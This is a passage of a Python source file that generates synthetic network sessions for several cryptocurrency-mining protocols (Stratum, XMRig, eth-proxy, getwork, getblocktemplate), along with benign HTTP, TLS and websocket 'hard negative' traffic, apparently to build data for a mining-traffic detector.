    # jobs: new block every Exp(600 s) (clean), refresh every 25-60 s
    prevhash = hx(rng, 32)
    job_times: list[tuple[float, bool]] = [(first_job_t, True)]
    tj = first_job_t
    next_block = tj + rng.expovariate(1 / 600)
    while True:
        tj += rng.uniform(25, 60)
        if next_block < tj:
            tj = next_block
            next_block = tj + rng.expovariate(1 / 600)
            job_times.append((tj, True))
        else:
            job_times.append((tj, False))
        if tj > end:
            job_times.pop()
            break
    jobs: list[tuple[float, str, int]] = []
    jn = rng.randrange(0x1000, 0x8000)

    def notify(tj: float, clean: bool) -> tuple[bytes, str, int]:
        nonlocal jn, prevhash
        if clean and jobs:
            prevhash = hx(rng, 32)
        jid = f"{jn:x}"
        jn += 1
        ntime = epoch0 + int(tj)
        note = btc_notify(rng, jid, prevhash, ntime, clean, nbits, rng.randrange(9, 13), coin,
                          coinbase_tag.encode() if coinbase_tag is not None else None)
        return pool(note), jid, ntime

    for i, (tj, clean) in enumerate(job_times):
        payload, jid, ntime = notify(tj, clean)
        if i == 0:
            payload = first_prefix + payload
        plan = "reorder" if reorder_notify_at == i else "normal"
        msgs.append(Msg(tj, S, payload, plan, len(payload) // 2 if plan == "reorder" else None))
        jobs.append((tj, jid, ntime))
    schedule = [(first_job_t, float(D0 * mult))]
    for cp, D in diffs[1:]:
        payload, jid, ntime = notify(cp, True)
        msgs.append(Msg(cp, S, pool({"id": None, "method": "mining.set_difficulty", "params": [D]}) + payload))
        jobs.append((cp, jid, ntime))
        log.diff_change(cp, difficulty=D, work=float(D * mult), message="mining.set_difficulty")
        schedule.append((cp, float(D * mult)))
    jobs.sort()

    shares = poisson_shares(rng, share_start, end - 2.0, hashrate, schedule)
    rejects = pick_rejects(rng, len(shares), max(2, len(shares) // 40))
    retx_k = pick_quiet(shares, retx_share_at) if retx_share_at is not None else None
    en2 = rng.randrange(0, 1 << 16)
    for k, (ts, work) in enumerate(shares):
        job = max((j for j in jobs if j[0] <= ts - 0.05), default=jobs[0])
        en2 += 1
        params = [login, job[1], f"{en2:08x}", f"{job[2] + rng.randrange(0, 3):08x}", hx(rng, 4)]
        if version_rolling:
            params.append(f"{rng.getrandbits(16) << 13 & 0x1FFFE000:08x}")
        sub = spaced({"params": params, "id": cid, "method": "mining.submit"})
        if k == retx_k:
            rto = 0.204 + rtt
            msgs.append(Msg(ts, C, sub, "lost_retx", rto, tag=k))
            tr = respond_time(rng, ts + rto, rtt)
            log.retransmitted_submits += 1
        else:
            msgs.append(Msg(ts, C, sub, tag=k))
            tr = respond_time(rng, ts, rtt)
        ok = k not in rejects
        if ok:
            resp = {"id": cid, "result": True, "error": None}
        else:
            err = [21, "Job not found", None] if k % 2 else [23, "Low difficulty share", None]
            resp = {"id": cid, "result": None, "error": err}
        msgs.append(Msg(tr, S, pool(resp)))
        log.shares.append((ts, work, ok))
        cid += 1
    return msgs, log


# ----------------------------------------------------------------------------------------------
# Stratum v1 Equihash (EWBF + flypool)


def sim_equihash(
    rng: random.Random, *, start: float, end: float, hashrate: float, target: str, login: str,
    agent: str, host: str, port: int, rtt: float, overlap_at: int, epoch0: int,
) -> tuple[list[Msg], SessionLog]:
    msgs: list[Msg] = []
    log = SessionLog()
    C, S = 0, 1
    nonce1 = hx(rng, 5)
    t = start
    msgs.append(Msg(t, C, line({"id": 1, "method": "mining.subscribe", "params": [agent, None, host, str(port)]})))
    tr = respond_time(rng, t, rtt)
    msgs.append(Msg(tr, S, f'{{"id":1,"result":["{nonce1}", "{nonce1}"], "error": null}}\n'.encode()))
    t = tr + 0.003
    msgs.append(Msg(t, C, line({"id": 2, "method": "mining.authorize", "params": [login, "x"]})))
    tr = respond_time(rng, t, rtt)
    work = work_from_target(int(target, 16))
    msgs.append(Msg(tr, S, b'{"id":2,"result":true, "error": null}\n'
                    + line({"id": None, "method": "mining.set_target", "params": [target]})))
    log.diff_change(tr, target=target, work=work, message="mining.set_target")
    t = tr + 0.004
    msgs.append(Msg(t, C, line({"id": 3, "method": "mining.extranonce.subscribe", "params": []})))
    # jobs: Zcash block every ~150 s, refresh otherwise every ~60 s
    jobs: list[tuple[float, str, str]] = []
    tj = t + rtt + 0.02
    prev = hx(rng, 32)
    while tj < end:
        clean = not jobs or rng.random() < 0.45
        if clean and jobs:
            prev = hx(rng, 32)
        jid = hx(rng, 10)
        ntime = (epoch0 + int(tj)).to_bytes(4, "little").hex()
        note = {"id": None, "method": "mining.notify", "params": [
            jid, "04000000", prev, hx(rng, 32), "0" * 64, ntime, "09d8151c", clean]}
        msgs.append(Msg(tj, S, line(note)))
        jobs.append((tj, jid, ntime))
        tj += rng.uniform(40, 110)
    shares = poisson_shares(rng, jobs[0][0] + 1.0, end - 2.0, hashrate, [(start, work)])
    rejects = pick_rejects(rng, len(shares), max(2, len(shares) // 35))
    overlap_at = pick_quiet(shares, overlap_at)
    sid = 100
    for k, (ts, w) in enumerate(shares):
        job = max((j for j in jobs if j[0] <= ts - 0.05), default=jobs[0])
        sol = "fd4005" + hx(rng, 1344)
        sub = line({"id": sid, "method": "mining.submit", "params": [login, job[1], job[2], hx(rng, 27), sol]})
        if k == overlap_at:
            rto = 0.25 + rtt
            msgs.append(Msg(ts, C, sub, "overlap", (1460, 2000, rto), tag=k))
            tr = respond_time(rng, ts + rto, rtt)
            log.retransmitted_submits += 1
        else:
            msgs.append(Msg(ts, C, sub, tag=k))
            tr = respond_time(rng, ts, rtt)
        ok = k not in rejects
        resp = f'{{"id":{sid},"result":true}}\n' if ok else f'{{"id":{sid},"result": null,"error": [21, "Stale job!"]}}\n'
        msgs.append(Msg(tr, S, resp.encode()))
        log.shares.append((ts, w, ok))
        sid += 1
    return msgs, log


# ----------------------------------------------------------------------------------------------
# EthereumStratum/1.0.0 (NiceHash) and eth-proxy (Claymore)


def sim_ethstratum(
    rng: random.Random, *, start: float, end: float, hashrate: float, diff: float, login: str,
    agent: str, rtt: float,
) -> tuple[list[Msg], SessionLog]:
    msgs: list[Msg] = []
    log = SessionLog()
    C, S = 0, 1
    en = hx(rng, 2)
    t = start
    msgs.append(Msg(t, C, line({"id": 1, "method": "mining.subscribe", "params": [agent, "EthereumStratum/1.0.0"]})))
    tr = respond_time(rng, t, rtt)
    msgs.append(Msg(tr, S, line({"id": 1, "result": [["mining.notify", hx(rng, 16), "EthereumStratum/1.0.0"], en],
                                 "error": None})))
    t = tr + 0.002
    msgs.append(Msg(t, C, line({"id": 2, "method": "mining.extranonce.subscribe", "params": []})))
    tr = respond_time(rng, t, rtt)
    msgs.append(Msg(tr, S, line({"id": 2, "result": True, "error": None})))
    t = tr + 0.002
    msgs.append(Msg(t, C, line({"id": 3, "method": "mining.authorize", "params": [login, "x"]})))
    tr = respond_time(rng, t, rtt)
    work = diff * 2 ** 32
    seed = hx(rng, 32)
    jobs: list[tuple[float, str]] = []
    jn = rng.randrange(1 << 20, 1 << 24)
    first = (line({"id": 3, "result": True, "error": None})
             + line({"id": None, "method": "mining.set_difficulty", "params": [diff]}))
    log.diff_change(tr, difficulty=diff, work=work, message="mining.set_difficulty")
    tj = tr
    while tj < end:
        jid = f"{jn:08x}"
        jn += 1
        note = line({"id": None, "method": "mining.notify", "params": [jid, seed, hx(rng, 32), True]})
        msgs.append(Msg(tj, S, first + note if not jobs else note))
        jobs.append((tj, jid))
        tj += rng.expovariate(1 / 13.0) + 0.5
    shares = poisson_shares(rng, jobs[0][0] + rtt, end - 2.0, hashrate, [(start, work)])
    rejects = pick_rejects(rng, len(shares), max(2, len(shares) // 40))
    sid = 4
    for k, (ts, w) in enumerate(shares):
        job = max((j for j in jobs if j[0] <= ts - 0.05), default=jobs[0])
        msgs.append(Msg(ts, C, line({"id": sid, "method": "mining.submit", "params": [login, job[1], hx(rng, 6)]}), tag=k))
        tr = respond_time(rng, ts, rtt)
        ok = k not in rejects
        resp = {"id": sid, "result": True, "error": None} if ok else \
            {"id": sid, "result": False, "error": [-1, "Job not found", None]}
        msgs.append(Msg(tr, S, line(resp)))
        log.shares.append((ts, w, ok))
        sid += 1
    return msgs, log


def sim_ethproxy(
    rng: random.Random, *, start: float, end: float, hashrate: float, share_work: float, login: str,
    rtt: float,
) -> tuple[list[Msg], SessionLog]:
    """Claymore's eth-proxy dialect: fixed ids (2 login, 3 getWork, 4 submitWork, 6 hashrate)."""
    msgs: list[Msg] = []
    log = SessionLog()
    C, S = 0, 1
    target_int = (1 << 256) // int(share_work)
    target = "0x" + f"{target_int:064x}"
    work = work_from_target(target_int)
    seed = "0x" + hx(rng, 32)
    client_id = "0x" + hx(rng, 32)
    t = start
    login_line = '{"worker": "eth1.0", "jsonrpc": "2.0", "params": ["%s", "x"], "id": 2, "method": "eth_submitLogin"}\n'
    msgs.append(Msg(t, C, (login_line % login).encode()))
    tr = respond_time(rng, t, rtt)
    msgs.append(Msg(tr, S, b'{"id":2,"jsonrpc":"2.0","result":true}\n'))
    getwork = b'{"worker": "", "jsonrpc": "2.0", "params": [], "id": 3, "method": "eth_getWork"}\n'
    log.diff_change(tr, target=target, work=work, message="eth_getWork result[2]")
    header = "0x" + hx(rng, 32)
    headers: list[tuple[float, str]] = [(tr, header)]

    def result(i: int, h: str) -> bytes:
        return line({"id": i, "jsonrpc": "2.0", "result": [h, seed, target]})

    # client polling: getWork every ~5 s with a hashrate report every ~30 s in the same segment
    t = tr + 0.003
    msgs.append(Msg(t, C, getwork))
    msgs.append(Msg(respond_time(rng, t, rtt), S, result(3, header)))
    next_poll = t + rng.uniform(4, 6)
    next_rate = t + 30.0
    # new blocks pushed by the pool (id 0) every ~13 s
    tb = t + rng.expovariate(1 / 13.0)
    events: list[tuple[float, str]] = []
    while tb < end:
        events.append((tb, "block"))
        tb += rng.expovariate(1 / 13.0) + 0.5
    while next_poll < end:
        events.append((next_poll, "poll"))
        next_poll += rng.uniform(4, 6)
    events.sort()
    for te, kind in events:
        if kind == "block":
            header = "0x" + hx(rng, 32)
            headers.append((te, header))
            msgs.append(Msg(te, S, result(0, header)))
        else:
            cur = max(h for h in headers if h[0] <= te)[1]
            data = getwork
            if te >= next_rate:
                claimed = hashrate * (1 + rng.gauss(0, 0.012))
                log.claimed.append(claimed)
                hr = f'{{"id":6,"jsonrpc":"2.0","method":"eth_submitHashrate","params":["0x{int(claimed):x}", "{client_id}"]}}\n'
                data = hr.encode() + getwork  # two requests in one segment
                next_rate = te + rng.uniform(29, 31)
                tr = respond_time(rng, te, rtt)
                msgs.append(Msg(tr, S, b'{"id":6,"jsonrpc":"2.0","result":true}\n' + result(3, cur)))
            else:
                msgs.append(Msg(respond_time(rng, te, rtt), S, result(3, cur)))
            msgs.append(Msg(te, C, data))
    shares = poisson_shares(rng, headers[0][0] + 1.0, end - 2.0, hashrate, [(start, work)])
    rejects = pick_rejects(rng, len(shares), max(2, len(shares) // 40))
    for k, (ts, w) in enumerate(shares):
        cur = max(h for h in headers if h[0] <= ts - 0.05)[1]
        sub = '{"id":4,"method":"eth_submitWork","params":["0x%s","%s","0x%s"]}\n' % (hx(rng, 8), cur, hx(rng, 32))
        msgs.append(Msg(ts, C, sub.encode(), tag=k))
        ok = k not in rejects
        resp = b'{"id":4,"jsonrpc":"2.0","result":true}\n' if ok else b'{"id":4,"jsonrpc":"2.0","result":false}\n'
        msgs.append(Msg(respond_time(rng, ts, rtt), S, resp))
        log.shares.append((ts, w, ok))
    return msgs, log


# ----------------------------------------------------------------------------------------------
# Monero (XMRig)

XMRIG6_ALGOS = ["cn/1", "cn/2", "cn/r", "cn/fast", "cn/half", "cn/xao", "cn/rto", "cn/rwz", "cn/zls",
                "cn/double", "cn/ccx", "cn-lite/1", "cn-heavy/0", "cn-heavy/tube", "cn-heavy/xhv",
                "cn-pico", "cn-pico/tlo", "cn/upx2", "rx/0", "rx/wow", "rx/arq", "rx/graft", "rx/sfx",
                "rx/keva", "argon2/chukwa", "argon2/chukwav2", "argon2/ninja", "ghostrider"]
XMRIG2_ALGOS = ["cn/r", "cn/2", "cn/1", "cn/0", "cn/xtl", "cn/msr", "cn/xao", "cn/rto", "cn/half"]


def monero_blob(rng: random.Random, major: int, ts: int) -> str:
    varint = bytearray()
    v = ts
    while True:
        b = v & 0x7F
        v >>= 7
        varint.append(b | (0x80 if v else 0))
        if not v:
            break
    return f"{major:02x}{major:02x}" + varint.hex() + hx(rng, 32) + "00000000" + hx(rng, 32) + f"{rng.randrange(2, 90):02x}"


def sim_xmrig(
    rng: random.Random, *, start: float, end: float, hashrate: float, diffs: list[tuple[float, int]],
    login: str, agent: str, algos: list[str], algo: str, rigid: str | None, escape_slashes: bool,
    keepalive: float, rtt: float, height0: int, epoch0: int, frag_login: int = 0,
    with_seed: bool = True, job_interval: tuple[float, float] | None = None, password: str = "x",
) -> tuple[list[Msg], SessionLog]:
    """XMRig on a nodejs-pool style pool: login, jobs, submits, keepalived.

    Jobs follow Monero blocks (every Exp(120 s)) unless ``job_interval`` = (lo, hi) asks for a
    pool that refreshes the job every uniform(lo, hi) seconds (a new block on one refresh in four).
    """
    msgs: list[Msg] = []
    log = SessionLog()
    C, S = 0, 1

    def cl(obj: dict[str, Any]) -> bytes:
        s = jdump(obj)
        if escape_slashes:
            s = s.replace("/", "\\/")
        return (s + "\n").encode()

    params: dict[str, Any] = {"login": login, "pass": password, "agent": agent}
    if rigid:
        params["rigid"] = rigid
    params["algo"] = algos
    t = start
    msgs.append(Msg(t, C, cl({"id": 1, "jsonrpc": "2.0", "method": "login", "params": params}),
                    "frag" if frag_login else "normal", frag_login or None))
    rpc_id = "%s-%s-%s-%s-%s" % (hx(rng, 4), hx(rng, 2), hx(rng, 2), hx(rng, 2), hx(rng, 6))
    seed_hash = hx(rng, 32)
    height = height0

    def job(target: str) -> dict[str, Any]:
        j: dict[str, Any] = {"blob": monero_blob(rng, 16 if algo.startswith("rx") else 11, epoch0 + int(t)),
                             "job_id": base64.b64encode(rng.getrandbits(168).to_bytes(21, "big")).decode(),
                             "target": target, "algo": algo, "height": height}
        if with_seed:
            j["seed_hash"] = seed_hash
        j["id"] = rpc_id
        return j

    tr = respond_time(rng, t, rtt)
    D0 = diffs[0][1]
    tgt = monero_target(D0)
    t = tr
    first = job(tgt)
    res = {"id": rpc_id, "job": first, "extensions": ["algo", "nicehash", "connect", "tls", "keepalive"], "status": "OK"}
    msgs.append(Msg(tr, S, line({"id": 1, "jsonrpc": "2.0", "error": None, "result": res})))
    log.diff_change(tr, difficulty=monero_diff(tgt), target=tgt, work=float(monero_diff(tgt)), message="login result job")
    jobs: list[tuple[float, str, str]] = [(tr, first["job_id"], tgt)]
    # block every ~120 s (or a job refresh every job_interval); vardiff change(s) as new jobs with a new target
    events: list[tuple[float, int | None]] = []
    if job_interval is None:
        tb = tr + rng.expovariate(1 / 120)
        while tb < end:
            events.append((tb, None))
            tb += rng.expovariate(1 / 120) + 1
    else:
        tb = tr + rng.uniform(*job_interval)
        while tb < end:
            events.append((tb, None if rng.random() < 0.25 else 0))
            tb += rng.uniform(*job_interval)
    for cp, D in diffs[1:]:
        events.append((cp, D))
    events.sort(key=lambda e: e[0])
    schedule = [(tr, float(monero_diff(tgt)))]
    for te, D in events:
        t = te
        if D is None:
            height += 1
        elif D == 0:  # job refresh on the same block (new transactions), same target
            pass
        else:
            tgt = monero_target(D)
            log.diff_change(te, difficulty=monero_diff(tgt), target=tgt, work=float(monero_diff(tgt)), message="job")
            schedule.append((te, float(monero_diff(tgt))))
        j = job(tgt)
        msgs.append(Msg(te, S, line({"jsonrpc": "2.0", "method": "job", "params": j})))
        jobs.append((te, j["job_id"], tgt))
    shares = poisson_shares(rng, jobs[0][0] + 0.5, end - 2.0, hashrate, schedule)
    rejects = pick_rejects(rng, len(shares), max(2, len(shares) // 40))
    sid = 2
    last_rx = tr
    for k, (ts, w) in enumerate(shares):
        # keepalived when nothing was received for `keepalive` seconds
        while ts - last_rx > keepalive:
            tk = last_rx + keepalive
            rx_between = [j[0] for j in jobs if last_rx < j[0] < tk]
            if rx_between:
                last_rx = rx_between[-1]
                continue
            msgs.append(Msg(tk, C, cl({"id": sid, "jsonrpc": "2.0", "method": "keepalived", "params": {"id": rpc_id}})))
            tr = respond_time(rng, tk, rtt)
            msgs.append(Msg(tr, S, line({"id": sid, "jsonrpc": "2.0", "error": None, "result": {"status": "KEEPALIVED"}})))
            log.extra["keepalived"] = log.extra.get("keepalived", 0) + 1
            sid += 1
            last_rx = tr
        job_ = max((j for j in jobs if j[0] <= ts - 0.05), default=jobs[0])
        t64 = M64 // (M32 // int.from_bytes(bytes.fromhex(job_[2]), "little"))
        result = hx(rng, 24) + rng.randrange(t64).to_bytes(8, "little").hex()
        p = {"id": rpc_id, "job_id": job_[1], "nonce": hx(rng, 4), "result": result, "algo": algo}
        msgs.append(Msg(ts, C, cl({"id": sid, "jsonrpc": "2.0", "method": "submit", "params": p}), tag=k))
        tr = respond_time(rng, ts, rtt)
        ok = k not in rejects
        resp = {"id": sid, "jsonrpc": "2.0", "error": None, "result": {"status": "OK"}} if ok else \
            {"id": sid, "jsonrpc": "2.0", "error": {"code": -1, "message": "Low difficulty share"}}
        msgs.append(Msg(tr, S, line(resp)))
        log.shares.append((ts, w, ok))
        sid += 1
        last_rx = max(last_rx, tr, *[j[0] for j in jobs if j[0] <= tr])
    return msgs, log


# ----------------------------------------------------------------------------------------------
# getblocktemplate / getwork over HTTP


def http_req(host: str, auth: str, body: bytes, agent: str, path: str = "/") -> bytes:
    return (f"POST {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Basic {base64.b64encode(auth.encode()).decode()}\r\n"
            "Accept: */*\r\nAccept-Encoding: deflate, gzip\r\nContent-type: application/json\r\n"
            "X-Mining-Extensions: longpoll midstate rollntime submitold\r\n"
            f"Content-Length: {len(body)}\r\nUser-Agent: {agent}\r\n\r\n").encode()


def http_resp(body: bytes, extra: str = "") -> bytes:
    return (f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n{extra}Content-Length: {len(body)}\r\n\r\n").encode() + body


def sim_gbt(
    rng: random.Random, *, start: float, end: float, hashrate: float, share_diff: int, host: str,
    auth: str, agent: str, rtt: float, epoch0: int,
) -> tuple[list[Msg], SessionLog]:
    """bfgminer on a getblocktemplate pool over one keep-alive HTTP/1.1 connection."""
    msgs: list[Msg] = []
    log = SessionLog()
    C, S = 0, 1
    target_int = (1 << 256) // (share_diff * 2 ** 32) - 1
    target = f"{target_int:064x}"
    work = work_from_target(target_int, plus_one=True)
    gbt_body = json.dumps({"id": 0, "method": "getblocktemplate", "params": [{"capabilities": [
        "coinbasetxn", "workid", "longpoll", "coinbase/append", "time/increment", "version/force",
        "version/reduce", "submit/coinbase", "submit/truncate"], "maxversion": 4}]}).encode()
    height = 534560 + rng.randrange(100)
    prev = hx(rng, 32)
    templates: list[tuple[float, str, str]] = []

    def fetch(t: float, new_block: bool) -> float:
        nonlocal prev, height
        if new_block:
            prev = hx(rng, 32)
            height += 1
        msgs.append(Msg(t, C, http_req(host, auth, gbt_body, agent) + gbt_body, "split", [None]))
        wid = hx(rng, 8)
        cb = ("01000000010000000000000000000000000000000000000000000000000000000000000000ffffffff"
              + "2003" + height.to_bytes(3, "little").hex() + hx(rng, 12) + "0f2f456c696769757320706f6f6c2f"
              + "ffffffff01" + hx(rng, 8) + "1976a914" + hx(rng, 20) + "88ac00000000")
        tmpl = {"result": {"coinbasetxn": {"data": cb}, "workid": wid, "previousblockhash": prev,
                           "transactions": [], "expires": 120, "target": target, "longpollid": hx(rng, 16),
                           "height": height, "version": 536870912, "curtime": epoch0 + int(t),
                           "mutable": ["coinbase/append", "submit/coinbase", "submit/truncate"],
                           "bits": "17376f56", "capabilities": ["coinbasetxn", "workid"]},
                "error": None, "id": 0}
        tr = respond_time(rng, t, rtt)
        msgs.append(Msg(tr, S, http_resp(json.dumps(tmpl).encode(), "X-Long-Polling: /LP\r\nX-Roll-NTime: expire=120\r\n")))
        templates.append((tr, wid, cb))
        return tr

    log.diff_change(start, target=target, work=work, difficulty=float(share_diff), message="getblocktemplate target")
    tr = fetch(start, False)
    refresh: list[tuple[float, bool]] = []
    tt = tr
    while True:
        tt += rng.uniform(50, 70)
        if tt > end - 3:
            break
        refresh.append((tt, rng.random() < 0.12))
    shares = poisson_shares(rng, tr + 0.5, end - 3.0, hashrate, [(start, work)])
    rejects = pick_rejects(rng, len(shares), max(2, len(shares) // 40))
    events = [(t_, "fetch", nb) for t_, nb in refresh] + [(t_, "share", k) for k, (t_, _) in enumerate(shares)]
    events.sort(key=lambda e: e[0])
    busy_until = tr
    for te, kind, arg in events:
        te = max(te, busy_until + 0.001)  # HTTP/1.1 without pipelining: one request at a time
        if kind == "fetch":
            busy_until = fetch(te, bool(arg))
            continue
        k = int(arg)
        tmpl = max((x for x in templates if x[0] <= te), default=templates[0])
        header = "20000000" + prev + hx(rng, 32) + f"{epoch0 + int(te):08x}" + "17376f56" + hx(rng, 4)
        body = json.dumps({"id": 1, "method": "submitblock", "params": [header + "01" + tmpl[2], {"workid": tmpl[1]}]}).encode()
        msgs.append(Msg(te, C, http_req(host, auth, body, agent) + body, "split", [None], tag=k))
        tr = respond_time(rng, te, rtt)
        ok = k not in rejects
        res = None if ok else ("stale-prevblk" if k % 2 else "duplicate")
        msgs.append(Msg(tr, S, http_resp(json.dumps({"result": res, "error": None, "id": 1}).encode())))
        log.shares.append((te, shares[k][1], ok))
        busy_until = tr
    return msgs, log


HASH1 = "0" * 64 + "0000008000000000000000000000000000000000000000000000000000010000"


def getwork_data(rng: random.Random, ntime: int) -> str:
    # 80-byte header in getwork's 32-bit word-swapped order, then SHA-256 padding (128 bytes total)
    return ("00000020" + hx(rng, 32) + hx(rng, 32) + ntime.to_bytes(4, "big").hex() + "1a0ffff0" + "00000000"
            + "000000800000000000000000000000000000000000000000000000000000000000000000000000000000000080020000")


def sim_getwork(
    rng: random.Random, *, start: float, end: float, hashrate: float, host: str, auth: str, agent: str,
    x_stratum: str, rtt: float, epoch0: int,
) -> tuple[list[Msg], SessionLog]:
    """An old cgminer on getwork (difficulty 1); the pool advertises stratum via X-Stratum."""
    msgs: list[Msg] = []
    log = SessionLog()
    C, S = 0, 1
    target = "ffffffffffffffffffffffffffffffffffffffffffffffffffffffff00000000"
    work = work_from_target(int.from_bytes(bytes.fromhex(target), "little"), plus_one=True)
    get_body = b'{"method": "getwork", "params": [], "id":0}\n'
    hdrs = f"X-Stratum: {x_stratum}\r\nX-Long-Polling: /lp\r\nX-Roll-NTime: expire=120\r\n"

    def fetch(t: float) -> float:
        msgs.append(Msg(t, C, http_req(host, auth, get_body, agent) + get_body, "split", [None]))
        res = {"result": {"hash1": HASH1,
                          "data": getwork_data(rng, epoch0 + int(t)), "target": target, "midstate": hx(rng, 32)},
               "error": None, "id": 0}
        tr = respond_time(rng, t, rtt)
        msgs.append(Msg(tr, S, http_resp(json.dumps(res).encode(), hdrs)))
        return tr

    log.diff_change(start, target=target, work=work, difficulty=1.0, message="getwork target")
    tr = fetch(start)
    shares = poisson_shares(rng, tr + 0.5, end - 3.0, hashrate, [(start, work)])
    rejects = pick_rejects(rng, len(shares), max(2, len(shares) // 35))
    events = [(t_, "share", k) for k, (t_, _) in enumerate(shares)]
    tt = tr
    while True:
        tt += rng.uniform(55, 65)
        if tt > end - 3:
            break
        events.append((tt, "fetch", 0))
    events.sort(key=lambda e: e[0])
    busy = tr
    for te, kind, k in events:
        te = max(te, busy + 0.001)
        if kind == "fetch":
            busy = fetch(te)
            continue
        body = ('{"method": "getwork", "params": [ "%s" ], "id":1}\n' % getwork_data(rng, epoch0 + int(te))).encode()
        msgs.append(Msg(te, C, http_req(host, auth, body, agent) + body, "split", [None], tag=k))
        tr = respond_time(rng, te, rtt)
        ok = k not in rejects
        msgs.append(Msg(tr, S, http_resp(json.dumps({"result": ok, "error": None, "id": 1}).encode(), hdrs)))
        log.shares.append((te, shares[k][1], ok))
        busy = tr
    return msgs, log


# ----------------------------------------------------------------------------------------------
# hard negatives


def fix_split(msgs: list[Msg]) -> list[Msg]:
    """Resolve "split" plans given as [None]: cut HTTP requests between header and body."""
    for m in msgs:
        if m.plan == "split" and m.arg == [None]:
            m.arg = [m.data.index(b"\r\n\r\n") + 4]
    return msgs


def neg_http_get(rng: random.Random, host: str, t: float, path: str = "/") -> list[Msg]:
    req = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) "
           "Gecko/20100101 Firefox/115.0\r\nAccept: text/html,application/xhtml+xml\r\nAccept-Language: en-US,en;q=0.5\r\n"
           "Connection: keep-alive\r\n\r\n").encode()
    body = (b"<!DOCTYPE html><html><head><title>Intranet</title></head><body><h1>Staff portal</h1>"
            b"<p>Maintenance window Saturday 02:00-04:00.</p></body></html>\n")
    resp = (f"HTTP/1.1 200 OK\r\nServer: nginx/1.18.0\r\nContent-Type: text/html; charset=utf-8\r\n"
            f"Content-Length: {len(body)}\r\nConnection: keep-alive\r\n\r\n").encode() + body
    return [Msg(t, 0, req), Msg(t + 0.021, 1, resp)]


def tls_client_hello(rng: random.Random, sni: str) -> bytes:
    name = sni.encode()
    sni_ext = struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    groups = struct.pack(">HHHHH", 10, 6, 4, 0x001D, 0x0017)
    alpn = struct.pack(">HHHB", 16, 11, 9, 8) + b"http/1.1"
    sigs = struct.pack(">HHH", 13, 6, 4) + struct.pack(">HH", 0x0403, 0x0804)
    exts = sni_ext + groups + alpn + sigs + struct.pack(">HH", 23, 0) + struct.pack(">HHB", 0xFF01, 1, 0)
    suites = [0xC02B, 0xC02F, 0xC02C, 0xC030, 0xCCA9, 0xCCA8, 0x009C, 0x009D, 0x002F, 0x0035]
    body = (struct.pack(">H", 0x0303) + bytes.fromhex(hx(rng, 32)) + b"\x20" + bytes.fromhex(hx(rng, 32))
            + struct.pack(">H", 2 * len(suites)) + b"".join(struct.pack(">H", s) for s in suites)
            + b"\x01\x00" + struct.pack(">H", len(exts)) + exts)
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack(">H", len(hs)) + hs


def tls_server_flight(rng: random.Random) -> bytes:
    exts = struct.pack(">HHB", 0xFF01, 1, 0) + struct.pack(">HH", 23, 0)
    body = (struct.pack(">H", 0x0303) + bytes.fromhex(hx(rng, 32)) + b"\x20" + bytes.fromhex(hx(rng, 32))
            + struct.pack(">HB", 0xC02F, 0) + struct.pack(">H", len(exts)) + exts)
    sh = b"\x02" + len(body).to_bytes(3, "big") + body
    rec = b"\x16\x03\x03" + struct.pack(">H", len(sh)) + sh
    rec += b"\x14\x03\x03\x00\x01\x01"
    fin = bytes.fromhex(hx(rng, 40))
    return rec + b"\x16\x03\x03" + struct.pack(">H", len(fin)) + fin


def tls_appdata(rng: random.Random, n: int) -> bytes:
    return b"\x17\x03\x03" + struct.pack(">H", n) + bytes.fromhex(hx(rng, n))


def neg_tls(rng: random.Random, sni: str, t: float, rtt: float, exchanges: int) -> list[Msg]:
    msgs = [Msg(t, 0, tls_client_hello(rng, sni))]
    t += rtt + 0.004
    msgs.append(Msg(t, 1, tls_server_flight(rng)))
    t += 0.003
    ckx = b"\x16\x03\x03\x00\x25\x10\x00\x00\x21\x20" + bytes.fromhex(hx(rng, 32))
    msgs.append(Msg(t, 0, ckx + b"\x14\x03\x03\x00\x01\x01" + b"\x16\x03\x03\x00\x28" + bytes.fromhex(hx(rng, 40))))
    for _ in range(exchanges):
        t += rtt + 0.01
        msgs.append(Msg(t, 0, tls_appdata(rng, rng.randrange(200, 600))))
        t += rtt + 0.02
        msgs.append(Msg(t, 1, tls_appdata(rng, rng.randrange(600, 1400))))
        t += rng.uniform(0.5, 3)
    return msgs


def neg_jsonrpc_http(rng: random.Random, t: float, host: str, path: str, bodies: list[tuple[bytes, bytes]],
                     agent: str, gap: tuple[float, float], ctype: str = "application/json",
                     auth: str | None = None, server_hdr: str = "") -> list[Msg]:
    msgs = []
    for req, resp in bodies:
        hdr = f"POST {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n"
        if auth:
            hdr += f"Authorization: Basic {base64.b64encode(auth.encode()).decode()}\r\n"
        hdr += f"Content-Type: {ctype}\r\nContent-Length: {len(req)}\r\n\r\n"
        msgs.append(Msg(t, 0, hdr.encode() + req))
        rh = f"HTTP/1.1 200 OK\r\n{server_hdr}Content-Type: {ctype}\r\nContent-Length: {len(resp)}\r\n\r\n"
        msgs.append(Msg(t + rng.uniform(0.002, 0.02), 1, rh.encode() + resp))
        t += rng.uniform(*gap)
    return msgs


def ws_frame(payload: bytes, mask: bytes | None) -> bytes:
    n = len(payload)
    hdr = bytes([0x81])
    mbit = 0x80 if mask else 0
    if n < 126:
        hdr += bytes([mbit | n])
    else:
        hdr += bytes([mbit | 126]) + struct.pack(">H", n)
    if mask:
        return hdr + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    return hdr + payload


def neg_chat_ws(rng: random.Random, t0: float, t1: float, host: str) -> list[Msg]:
    """Rocket.Chat style DDP over a plaintext websocket: JSON with msg/method/params/id."""
    key = base64.b64encode(bytes.fromhex(hx(rng, 16))).decode()
    accept = base64.b64encode(hashlib.sha1((key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest()).decode()
    req = (f"GET /websocket HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
           "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/107.0.0.0 Safari/537.36\r\nUpgrade: websocket\r\n"
           f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
